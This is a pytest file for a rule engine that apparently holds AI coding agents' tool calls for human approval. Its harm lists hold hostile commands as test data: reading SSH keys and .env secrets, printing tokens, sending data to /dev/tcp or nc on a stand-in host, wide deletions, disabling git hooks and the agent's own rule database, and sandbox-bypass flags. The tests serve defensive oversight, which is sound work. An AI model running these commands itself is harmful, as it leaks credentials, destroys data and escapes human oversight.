"""Ready-made rules: each does what its sentence says, and is one switch."""

from __future__ import annotations

from typing import Any

import pytest

from coordinator.models import AuditLog, ToolRule
from coordinator.policy.rules import ready_made, tool_rules
from coordinator.policy.rules.call_text import build_call_text_from_input, copy_call_text_with_folder
from coordinator.policy.rules.tool_rules import ASK, OBSERVE
from tests.calls.test_rules_in_terms import FIELDS, FOLDER
from tests.people import signed_in

RULES = [rule.build_rule(number) for number, rule in enumerate(ready_made.READY_MADE_RULES, 1)]
URL = "/ui/rules/ready-made/{}/"
DAILY = [
    "git status", "git add -A && git commit -m 'Never git push --force; see ~/.ssh'", "ls -la",
        "pytest -q tests/x.py",
    "npm test", "cat README.md | head -5", "rg 'rm -rf /' src", "python manage.py test", "rm -rf build",
        "mkdir -p a/b",
    "cargo build 2>&1 | tail -3", "echo done > out.txt", "git diff HEAD~1 -- src", "make lint",
        "cat .env.example",
    "find . -name '*.py' | wc -l", "git log --oneline -5", "curl -s http://localhost:8000/health",
        "kubectl get pods",
    "git -C . log -3", "curl -s -H 'Host: a.b' -o out.txt localhost:8000/health", "gh api /user",
    "kubectl describe pod x",
    "git checkout -b x", "codex -s workspace-write exec x", "gpg --verify a.sig", "chmod +x run.sh",
    "docker build .", "terraform plan", "npm run build && ls dist",
]  # fmt: skip
HARM = {
    "publishes": ["git push", "sh -c 'npm publish'", "cd x && terraform apply",
        "kubectl -n a delete pod x", "docker push x", "npm run deploy", "make release", "npx semantic-release",
        "gh api -X POST repos/a/b/releases", "lerna publish"],
    "deletes-outside": ["rm -rf /etc/x", "find / -delete", "rm ../x", "cd / && rm -rf *",
        "git -C /x clean -fd"],
    "credentials": ["cat .env", "cp ~/.ssh/id_rsa .", "grep x .env.local", "base64 server.key",
        "head -1 ~/.aws/credentials"],
    "rewrites-history": ["git push -f", "git push origin +x", "git reset --hard HEAD~3",
        "git push origin main", "git rebase x", "git push origin HEAD:refs/heads/main", "git branch -M x",
        "git switch -C x"],
    "prints-credentials": ["gh auth token", "gpg --export-secret-keys", "kubectl -n a get secret x -o yaml",
        "aws configure get aws_secret_access_key", "security find-generic-password -w"],
    "installs": ["npm i x", "python3 -m pip install x", "uv add x", "sudo apt-get install -y x",
        "brew install x"],
    "network": ["curl https://a.example", "wget a.example/x", "git clone https://a.example/x",
        "ssh a.example ls"],
    "new-hosts": ["curl https://a.example", "pip install --index-url https://b.example x", "curl -s a.example",
        "curl --url=a.example", "curl --compressed a.example", "curl -K hosts.conf", "wget -i urls.txt",
        "curl --connect-to ::a.example: https://localhost/", "curl --resolve localhost:80:6.6.6.6 http://localhost/",
        "cat x > /dev/tcp/a.example/80", "openssl s_client -connect a.example:443", "socat - TCP:a.example:80",
        "ALL_PROXY=http://a.example curl http://localhost/", "ssh -o ProxyCommand='nc a.example 22' localhost",
        "docker pull a.example/image", "http POST a.example", "nc -z a.example 80", "dig +short a.example"],
    "own-settings": ["echo {} > .claude/settings.json", "rm -rf .git/hooks",
        "sed -i s/a/b/ ~/.claude/settings.json", "chmod -x .git/hooks/pre-commit",
        "sqlite3 /srv/signalbox.sqlite3 'delete from tool_rules'"],
    "connects": ["signalbox disconnect claude-code", "git config core.hooksPath /dev/null",
        "claude mcp add x", "git -c core.hooksPath=/dev/null commit -m x"],
    "without-sandbox": ["claude --dangerously-skip-permissions -p x", "codex --yolo exec x",
        "codex -s danger-full-access exec x", "codex --sandbox=danger-full-access exec x",
        "codex -c 'sandbox_mode=\"danger-full-access\"' exec x", "gemini --approval-mode=yolo",
        "claude --permission-mode bypassPermissions -p x"],
    "outside-project": ["cat /etc/passwd", "ls ..", "echo x > ~/x", "git -C /other log"],
}  # fmt: skip


def decide(tool: str, tool_input: dict[str, Any], rules: Any = RULES) -> str:
    text = copy_call_text_with_folder(build_call_text_from_input(tool_input, FIELDS.get(tool)), FOLDER)
    return tool_rules.tool_ruling_or_no_opinion(rules, tool, text, None).decision


def test_each_ready_made_rule_can_be_saved() -> None:
    for rule in RULES:
        tool_rules.validate_tool_rule(rule)
    repetitions = {"same-call", "same-error"}  # tests/calls/test_repetitions.py
    assert {*HARM, *repetitions} == {rule.name for rule in ready_made.READY_MADE_RULES}


@pytest.mark.parametrize("command", DAILY)
def test_daily_commands_are_not_asked_about(command: str) -> None:
    assert decide("Bash", {"command": command}) == OBSERVE


@pytest.mark.parametrize(
    ("name", "command"), [(name, one) for name, commands in HARM.items() for one in commands]
)
def test_each_asks_about_what_its_sentence_says(name: str, command: str) -> None:
    (rule,) = (rule for rule in RULES if rule.ready_made == name)
    assert decide("Bash", {"command": command}, [rule]) == ASK


def test_looking_into_another_repository_deletes_nothing_there() -> None:
    (rule,) = (rule for rule in RULES if rule.ready_made == "deletes-outside")
    assert decide("Bash", {"command": "git -C ../other status"}, [rule]) == OBSERVE
    assert decide("Bash", {"command": "git -C ../other clean -fd"}, [rule]) == ASK


def test_a_host_of_localhost_alone_is_not_new() -> None:
    (rule,) = (rule for rule in RULES if rule.ready_made == "new-hosts")
    for command in (
        "curl -x localhost:1 localhost",
        "ssh -v localhost ls",
        "nc -l 8000",
        "ping -c 3 localhost",
    ):
        assert decide("Bash", {"command": command}, [rule]) == (ASK if "-l" in command else OBSERVE)


def test_other_tools_are_asked_about_as_well() -> None:
    assert decide("Write", {"file_path": ".claude/settings.json", "content": "{}"}) == ASK
    assert decide("Read", {"file_path": f"{FOLDER}/.env"}) == ASK
    assert decide("WebFetch", {"url": "https://a.example", "prompt": "x"}) == ASK
    assert decide("Bash", {"command": "ls", "dangerouslyDisableSandbox": True}) == ASK
    assert decide("Write", {"file_path": "src/a.py", "content": "~/.ssh"}) == OBSERVE


@pytest.mark.django_db
def test_a_switch_adds_one_rule_behind_the_first_denials_and_is_audited() -> None:
    approver = signed_in("approver")
    for position, verdict in enumerate(("deny", "allow"), 1):
        ToolRule.objects.create(
            position=position,
            tool="Bash",
            verdict=verdict,
            pattern="x",
            changed_by="a",
            changed_at="2026-01-01T00:00:00Z",
        )
    for _ in range(2):
        assert approver.post(URL.format("publishes"), {"is_on": "1"}).status_code == 302
    saved = tool_rules.load_saved_tool_rules()
    assert [(rule.number, rule.ready_made, rule.verdict) for rule in saved] == [
        (1, "", "deny"),
        (2, "publishes", "ask"),
        (3, "", "allow"),
    ]
    switched = AuditLog.objects.filter(event_type="READY_MADE_RULE_SWITCHED")
    assert [row.metadata["is_on"] for row in switched] == [True]
    assert approver.post(URL.format("publishes"), {"is_on": "0"}).status_code == 302
    assert [rule.ready_made for rule in tool_rules.load_saved_tool_rules()] == ["", ""]


@pytest.mark.django_db
def test_a_viewer_switches_nothing_and_an_unknown_name_is_refused() -> None:
    viewer, approver = signed_in("viewer"), signed_in("approver")
    assert viewer.post(URL.format("publishes"), {"is_on": "1"}).status_code == 403
    page = approver.post(URL.format("nothing"), {"is_on": "1"}, follow=True)
    assert "There is no such ready-made rule." in page.content.decode()
    assert not ToolRule.objects.exists()


@pytest.mark.django_db
def test_the_page_shows_each_switch() -> None:
    page = signed_in("viewer").get("/ui/rules/").content.decode()
    assert all(rule.sentence.split(":")[0] in page for rule in ready_made.READY_MADE_RULES)
